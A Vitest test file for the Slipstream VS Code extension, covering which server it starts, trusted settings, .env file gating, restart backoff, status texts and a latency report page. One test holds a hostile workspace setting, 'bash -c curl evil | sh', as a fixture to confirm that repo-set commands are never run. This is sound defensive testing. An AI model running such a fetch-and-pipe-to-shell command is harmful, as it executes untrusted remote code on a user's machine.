/**
 * The VS Code extension's pure parts (no vscode API): which server it starts (a workspace's
 * `slipstream.server.command` is never used), which settings it takes from where, which documents
 * get suggestions, the restart backoff, the status texts the user reads, and the latency view
 * (the tooltip's last-request breakdown, the report page, what an inline completion request
 * tells the server about the keystroke).
 */
import { describe, expect, it } from 'vitest';
import { documentEnabled, isDotenvFile, languageEnabled, toggledLanguages } from '../../../extension/src/language-gate.js';
import { MAX_CRASHES, RestartPolicy } from '../../../extension/src/restart-policy.js';
import { serverStart, setByWorkspace, trustedValue } from '../../../extension/src/server-command.js';
import { statusBarText, statusRows } from '../../../extension/src/status-view.js';
import { inlineClientTrace, lastRequestLines, newTraceId, REPORT_CSP, reportHtml } from '../../../extension/src/trace-view.js';
import type { RequestTrace, StatusResult } from '../../../server/src/protocol.js';
import { syntheticTrace } from '../../helpers/synthetic-traces.js';

describe('serverStart', () => {
  const bundled = '/ext/dist/server.js';

  it('starts the bundled server when the user names no command', () => {
    expect(serverStart(undefined, bundled)).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
    expect(serverStart({ defaultValue: [] }, bundled)).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
  });

  it('bridges to the shared daemon when the user (never a workspace) sets slipstream.server.shared', () => {
    expect(serverStart(undefined, bundled, { defaultValue: false, globalValue: true })).toEqual({ kind: 'bundled', module: bundled, args: ['serve', '--connect'] });
    expect(serverStart({ globalValue: ['slipstream'] }, bundled, { globalValue: true })).toEqual({ kind: 'command', command: 'slipstream', args: ['serve', '--stdio', '--connect'] });
    expect(serverStart(undefined, bundled, { defaultValue: false, workspaceValue: true })).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
  });

  it('never runs a command that only a workspace sets', () => {
    const fromRepo = { defaultValue: [], workspaceValue: ['bash', '-c', 'curl evil | sh'], workspaceFolderValue: ['sh'] };
    expect(serverStart(fromRepo, bundled).kind).toBe('bundled');
    expect(setByWorkspace(fromRepo)).toBe(true);
    // the user's own command wins over both
    expect(serverStart({ ...fromRepo, globalValue: ['node', '/opt/slipstream.js'] }, bundled)).toEqual({
      kind: 'command',
      command: 'node',
      args: ['/opt/slipstream.js', 'serve', '--stdio'],
    });
  });

  it('ignores a malformed user value', () => {
    expect(serverStart({ globalValue: 'node x.js' }, bundled).kind).toBe('bundled');
    expect(serverStart({ globalValue: ['node', 3] }, bundled).kind).toBe('bundled');
  });
});

describe('trustedValue', () => {
  it('takes path settings from the user or the default only; others as VS Code resolves them', () => {
    const model = { defaultValue: '', globalValue: undefined, workspaceValue: '/repo/evil-model' };
    expect(trustedValue(model, true, '/repo/evil-model')).toBe('');
    expect(trustedValue({ ...model, globalValue: '/models/mine' }, true, '/repo/evil-model')).toBe('/models/mine');
    expect(trustedValue({ defaultValue: 48, workspaceValue: 16 }, false, 16)).toBe(16);
  });
});

describe('language gate', () => {
  it('leaves out plain text, Markdown and .env files unless turned on', () => {
    expect(languageEnabled(undefined, 'typescript')).toBe(true);
    for (const id of ['plaintext', 'markdown', 'dotenv']) expect(languageEnabled(undefined, id)).toBe(false);
    expect(languageEnabled({ markdown: true }, 'markdown')).toBe(true);
    expect(languageEnabled({ python: false }, 'python')).toBe(false);
    expect(documentEnabled(undefined, 'properties', '/w/.env')).toBe(false);
    expect(documentEnabled(undefined, 'properties', '/w/app.properties')).toBe(true);
    expect(documentEnabled({ dotenv: true }, 'properties', '/w/.env.local')).toBe(true);
  });

  it('recognises .env files by name', () => {
    for (const f of ['/a/.env', '/a/.env.local', 'C:\\a\\prod.env']) expect(isDotenvFile(f)).toBe(true);
    for (const f of ['/a/env.ts', '/a/.envrc', '/a/environment.json']) expect(isDotenvFile(f)).toBe(false);
  });

  it('toggles one language, keeping the others', () => {
    expect(toggledLanguages({ python: false }, 'markdown')).toEqual({ python: false, markdown: true });
    expect(toggledLanguages(undefined, 'typescript')).toEqual({ typescript: false });
  });
});

describe('RestartPolicy', () => {
  it('backs off 1, 2, 4, 8 s and gives up at the fifth crash within 3 minutes', () => {
    let t = 0;
    const p = new RestartPolicy(() => t);
    const delays: number[] = [];
    for (let i = 1; i < MAX_CRASHES; i++) {
      const d = p.crashed();
      if (!d.restart) throw new Error('gave up too early');
      delays.push(d.delayMs);
      t += 10_000;
    }
    expect(delays).toEqual([1000, 2000, 4000, 8000]);
    const last = p.crashed();
    expect(last.restart).toBe(false);
    if (!last.restart) expect(last.message).toContain('will not be restarted');
  });

  it('forgets crashes older than the window, and a manual restart resets it', () => {
    let t = 0;
    const p = new RestartPolicy(() => t);
    for (let i = 0; i < MAX_CRASHES - 1; i++) p.crashed();
    t += 4 * 60_000;
    expect(p.crashed()).toEqual({ restart: true, delayMs: 1000 });
    p.reset();
    expect(p.crashed()).toEqual({ restart: true, delayMs: 1000 });
  });
});

const status: StatusResult = {
  version: '0.1.0',
  engine: {
    state: 'ready',
    model: {
      dir: '/x/fixtures/models/slipstream-code', source: 'default', architecture: 'llama', vocabSize: 4096, numLayers: 6, hiddenSize: 256, fim: true,
      compute: { threads: 2, weights: 'bf16', kernelPath: 'avx512bf16' },
    },
    drafter: { dir: '/x/fixtures/models/slipstream-code-drafter', source: 'default' },
    backend: 'auto',
    backendInUse: 'cpu',
    mode: 'redrafter',
    modeSetting: 'auto',
    modeDecision: {
      reason: 'auto: ReDrafter M=1 L=3 0.20 ms/token vs plain 0.25 ms/token (1.25x) >= 1.1x, the fastest of 2 shapes',
      shape: { beams: 1, beamLength: 3 },
      calibration: {
        tokens: 32,
        promptTokens: 960,
        rounds: 3,
        arMsPerToken: 0.25,
        shapes: [
          { beams: 1, beamLength: 3, msPerToken: 0.2, tokensPerStep: 2.1, speedup: 1.25, rounds: 3 },
          { beams: 2, beamLength: 4, msPerToken: 0.3, tokensPerStep: 2.4, speedup: 0.83, rounds: 1 },
        ],
        ms: 140,
        measuredAt: '2026-12-06T20:00:00.000Z',
        source: 'measured',
      },
    },
    backends: [{ name: 'cpu', available: true }, { name: 'cuda', available: false, reason: 'no device: no NVIDIA driver (libcuda.so.1 not found)' }],
    error: null,
    sessions: 1,
    memory: null,
  },
  process: { rssBytes: 90e6, heapUsedBytes: 20e6, externalBytes: 5e6, uptimeS: 60 },
  cache: {
    hits: 2,
    misses: 5,
    enabled: true,
    kv: { bytes: 0, budgetBytes: 268435456, sessions: 0, hits: 0, evictions: 0 },
    suggestions: { entries: 1, hits: 2, misses: 5 },
    drafts: { offered: 0, accepted: 0 },
    attached: 0,
    prefetched: { computed: 0, used: 0, abandoned: 0 },
  },
  timeBudget: { answered: 0, finished: 0 },
  latency: { count: 7, p50Ms: 11.2, p95Ms: 30.1, p99Ms: 30.1, lastMs: 12.6 },
  requests: { total: 9, shown: 6, empty: 1, cached: 2, cancelled: 0, superseded: 0, stale: 0, errors: 0 },
  events: { shown: 6, accepted: 1, acceptedAlternatives: 0, partiallyAccepted: 0, retention: { checkpoints: [], untracked: 0, tracking: 0 } },
  documents: 1,
  documentBytes: 4096,
  documentLimits: { maxDocuments: 1000, maxBytes: 268435456 },
};

describe('status texts', () => {
  it('status bar: model folder, backend in use, last latency; states otherwise', () => {
    expect(statusBarText(status)).toBe('slipstream-code · cpu 13 ms');
    expect(statusBarText({ ...status, engine: { ...status.engine, state: 'loading', model: null } })).toBe('Slipstream: loading model');
    expect(statusBarText({ ...status, engine: { ...status.engine, state: 'error', error: { message: 'x', code: 'E' } } })).toBe('Slipstream: error');
  });

  it('Show Status: readable rows, not JSON', () => {
    const rows = statusRows(status).map((r) => r.label);
    expect(rows).toContain('Model: slipstream-code (shipped default)');
    expect(statusRows(status).find((r) => r.label.startsWith('Model'))?.detail).toBe(
      'llama, 6 layers, hidden 256, vocabulary 4096, fill-in-the-middle · bf16 weights on 2 threads, avx512bf16 kernels · /x/fixtures/models/slipstream-code',
    );
    expect(rows).toContain('Drafter: slipstream-code-drafter (shipped default)');
    expect(rows).toContain('Decoding: ReDrafter speculative decoding · setting auto');
    expect(rows).toContain('Backend: cpu · setting auto');
    expect(rows).toContain('Latency: last 13 ms · p50 11 ms · p95 30 ms · p99 30 ms');
    expect(rows).toContain('Suggestions: shown 6 · accepted 1 · partly accepted 0');
    expect(statusRows({ ...status, events: { ...status.events, accepted: 3, acceptedAlternatives: 2 } }).map((r) => r.label)).toContain(
      'Suggestions: shown 6 · accepted 3 (2 alternatives) · partly accepted 0',
    );
    expect(rows.join('\n')).not.toMatch(/[{}]/);
    expect(statusRows(status).find((r) => r.label.startsWith('Backend'))?.detail).toContain('no NVIDIA driver');
  });

  it('Show Status: the retention row once a checkpoint has figures', () => {
    const retention = (r: typeof status.events.retention): string[] =>
      statusRows({ ...status, events: { ...status.events, retention: r } }).filter((row) => row.label.startsWith('Accepted characters')).map((row) => `${row.label} | ${row.detail}`);
    const checkpoint = (afterSeconds: number, items: number, acceptedChars: number, retainedChars: number) => ({ afterSeconds, items, acceptedChars, retainedChars });
    expect(retention({ checkpoints: [checkpoint(30, 0, 0, 0), checkpoint(300, 0, 0, 0)], untracked: 2, tracking: 1 })).toEqual([]);
    expect(retention({ checkpoints: [checkpoint(30, 41, 1340, 1234), checkpoint(300, 12, 400, 301)], untracked: 2, tracking: 3 })).toEqual([
      'Accepted characters still there: 30 s 92% (1,234 of 1,340) · 5 min 75% (301 of 400) | 41 items at 30 s, 12 items at 5 min; 2 accepts not found in the document; 3 followed now',
    ]);
    expect(retention({ checkpoints: [checkpoint(30, 1, 6, 6), checkpoint(300, 0, 0, 0)], untracked: 0, tracking: 1 })).toEqual([
      'Accepted characters still there: 30 s 100% (6 of 6) | 1 item at 30 s; 0 accepts not found in the document; 1 followed now',
    ]);
  });

  it('Show Status: the decoding row says whether the calibration was measured now or kept from an earlier start', () => {
    const decoding = (s: typeof status): string | undefined => statusRows(s).find((r) => r.label.startsWith('Decoding'))?.detail;
    expect(decoding(status)).toContain(' · calibrated in 140 ms over 3 rounds of up to 32 tokens after 960-token prompts, 2 tree shapes');
    const md = status.engine.modeDecision!;
    const kept = { ...status, engine: { ...status.engine, modeDecision: { ...md, calibration: { ...md.calibration!, source: 'cache' as const } } } };
    expect(decoding(kept)).toContain(' · calibrated by an earlier start on 2026-12-06, in 140 ms over 3 rounds');
  });

  it('Show Status: the decoding row names prompt lookup when it is on, with what it contributed', () => {
    const row = (lookup: typeof status.engine.lookup) => statusRows({ ...status, engine: { ...status.engine, lookup } }).find((r) => r.label.startsWith('Decoding'))!;
    expect(row(null).label).toBe('Decoding: ReDrafter speculative decoding · setting auto');
    const reason = 'a forward of 5 rows costs 1.32x one row (13.10 / 9.92 ms after 184 tokens), at most 1.75x: on';
    const plain = { ...status, engine: { ...status.engine, mode: 'ar', lookup: { tokens: 4, on: true, reason, accepted: 212 } } };
    const on = statusRows(plain).find((r) => r.label.startsWith('Decoding'))!;
    expect(on.label).toBe('Decoding: plain (one token per step) + prompt lookup · setting auto');
    expect(on.detail).toContain(` · prompt lookup: up to 4 tokens a round, 212 tokens accepted from it (${reason})`);
    expect(on.detail!.indexOf('prompt lookup')).toBeLessThan(on.detail!.indexOf('calibrated'));
    const off = row({ tokens: 4, on: false, reason: 'ReDrafter runs: its drafter drafts', accepted: 0 });
    expect(off.label).toBe('Decoding: ReDrafter speculative decoding · setting auto');
    expect(off.detail).toContain(' · prompt lookup off: ReDrafter runs: its drafter drafts');
  });
});

describe('the latency view', () => {
  const trace = syntheticTrace({ id: 7, at: 1_800_000_000_000, debounce: 20, prefill: 9, rounds: [3, 3, 3], keystrokeBefore: 1.25 });

  it("the tooltip gives the last request's total, the editor's share and each stage that took a visible part", () => {
    const lines = lastRequestLines(trace);
    expect(lines[0]).toBe(`Last request #7 (shown): ${trace.totalMs.toFixed(1)} ms in the server, 1.25 ms in the editor before it`);
    expect(lines.slice(1).map((l) => l.trim().split(' ')[0])).toEqual(['debounce', 'prefill', 'decode', 'other']);
    expect(lines.find((l) => l.includes('decode'))).toMatch(/decode 9\.\d\d ms █+ \(3 rounds, 6 tokens\)/);
    expect(lines.find((l) => l.includes('prefill'))).toContain('(20 tokens computed, 100 reused)');
    expect(lastRequestLines(null)).toEqual([]);
    const { spans: _spans, ...flat } = trace;
    expect(lastRequestLines(flat as RequestTrace)).toHaveLength(1);
  });

  it('trace ids are 32 lowercase hex digits', () => {
    expect(newTraceId((n) => Uint8Array.from({ length: n }, (_, i) => i * 17))).toBe('00112233445566778899aabbccddeeff');
  });

  it('an inline completion request carries the keystroke time unless it was invoked (Alt+], Trigger Inline Suggestion)', () => {
    const at = { textDocument: { uri: 'file:///a.ts', version: 3 }, position: { line: 0, character: 1 } };
    const id = '00112233445566778899aabbccddeeff';
    expect(inlineClientTrace({ ...at, context: { triggerKind: 2 } }, id, 1234.5)).toEqual({ traceId: id, keystrokeAt: 1234.5 });
    // a command made it, maybe seconds after the keystroke: that wait is not the editor's share
    expect(inlineClientTrace({ ...at, context: { triggerKind: 1 } }, id, 1234.5)).toEqual({ traceId: id });
    // no keystroke known for the document's current text: the trace id alone
    expect(inlineClientTrace({ ...at, context: { triggerKind: 2 } }, id, undefined)).toEqual({ traceId: id });
    expect(inlineClientTrace({ ...at }, id, 7)).toEqual({ traceId: id, keystrokeAt: 7 });
  });

  it('the report page is the CLI report with no script, a strict policy and a refresh link', () => {
    const html = reportHtml({ capacity: 200, traces: [trace] }, 'slipstream.openLatencyReport');
    expect(html).toContain(`content="${REPORT_CSP.replace(/'/g, '&apos;')}"`);
    expect(html).toContain('<a href="command:slipstream.openLatencyReport">Refresh</a>');
    expect(html).toContain('this session&apos;s last 1 request (the server keeps 200)');
    expect(html).toContain('<svg xmlns="http://www.w3.org/2000/svg"');
    expect(html).not.toMatch(/<script/i);
  });
});
